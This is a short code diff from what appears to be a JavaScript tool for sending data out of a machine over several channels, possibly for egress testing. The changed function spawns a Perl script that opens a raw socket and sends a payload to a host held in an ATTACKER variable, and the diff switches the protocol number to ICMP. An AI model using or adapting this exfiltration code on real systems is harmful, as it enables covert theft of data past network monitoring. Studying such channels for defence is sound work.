@@ -60,7 +60,7 @@ const unix = () => new Promise((yes, no) => {
 
 const raw = () => {
   const script = `use Socket;
-    socket(my $s, PF_INET, SOCK_RAW, 253) or exit 0+$!;
+    socket(my $s, PF_INET, SOCK_RAW, 1) or exit 0+$!;
     send($s, $ARGV[0], 0, sockaddr_in(0, inet_aton("${ATTACKER}"))) or exit 0+$!;`;
   const r = spawnSync('perl', ['-e', script, payload()]);
   if (r.status)
